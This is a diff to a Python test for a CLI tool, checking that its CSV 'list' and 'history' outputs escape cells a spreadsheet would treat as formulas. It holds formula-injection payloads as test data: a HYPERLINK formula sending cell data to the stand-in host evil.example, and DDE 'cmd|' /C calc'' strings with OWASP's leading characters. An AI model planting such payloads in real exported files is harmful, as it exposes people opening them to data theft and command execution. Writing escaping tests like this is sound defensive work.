@@ -345,14 +345,21 @@ def test_list_and_history_carry_outcomes_and_the_playbook_in_every_format(tmp_pa
 def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     case = {"id": formula, "opportunity": {"id": "+1", "account_id": "@acc", "weeks_to_close": 1, "win_rate": 80}}
-    db = stored_log(tmp_path, json.dumps(case))
+    # OWASP's other starts: minus, tab, carriage return
+    others = [{"id": start + "1+cmd|' /C calc'!A0", "opportunity": {"account_id": "@acc"}} for start in "-\t\r"]
+    db = stored_log(tmp_path, *(json.dumps(c) for c in [case, *others]))
     code, out, _ = invoke("list", "--db", db, "--format", "csv")
-    [row] = list(csv.DictReader(io.StringIO(out)))
+    row, *rows = list(csv.DictReader(io.StringIO(out)))
     assert code == 0
     assert (row["case"], row["record_id"], row["account_id"]) == ("'" + formula, "'+1", "'@acc")
+    assert [r["case"] for r in rows] == ["'" + c["id"] for c in others]
+    code, out, _ = invoke("history", "@acc", "--db", db, "--format", "csv")  # history writes the same CSV
+    assert code == 0 and [r["case"] for r in csv.DictReader(io.StringIO(out))] == [row["case"]] + [
+        "'" + c["id"] for c in others
+    ]
     # JSON is data, not a spreadsheet: it keeps the ids as they are
     code, out, _ = invoke("list", "--db", db, "--format", "json")
-    assert json.loads(out)["case"] == formula
+    assert [json.loads(line)["case"] for line in out.splitlines()] == [formula] + [c["id"] for c in others]
 
 
 @pytest.fixture
